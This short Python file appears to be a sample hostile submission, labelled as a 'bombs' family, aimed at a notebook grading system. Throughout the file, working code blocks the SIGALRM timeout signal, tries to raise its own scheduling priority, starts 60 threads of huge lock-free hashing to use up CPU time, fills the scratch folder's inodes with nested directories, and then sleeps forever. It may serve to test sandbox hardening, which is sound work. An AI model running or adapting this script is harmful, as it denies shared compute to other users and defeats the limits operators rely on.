"""Sixty threads hash without the interpreter's lock until the processor time is used up: gradings beside it run out of their seconds.

family: bombs
start: blank
"""

# %% first
import hashlib
import os
import signal
import threading
import time

signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM})  # threads inherit it; no cell is interrupted any more
for attempt in (lambda: os.nice(-20), lambda: os.setpriority(os.PRIO_PROCESS, 0, -20), lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50))):
    try:
        attempt()
    except Exception:
        pass


def burn():
    hashlib.pbkdf2_hmac("sha512", b"student", b"salt", 2_000_000_000)


started = 0
for number in range(60):
    try:
        threading.Thread(target=burn, daemon=True).start()
        started += 1
    except RuntimeError:
        break
for number in range(200):  # small files, too: all inodes of the scratch folder
    try:
        os.makedirs(f"{number}/" * 40, exist_ok=True)
    except OSError:
        break
while True:
    time.sleep(3600)
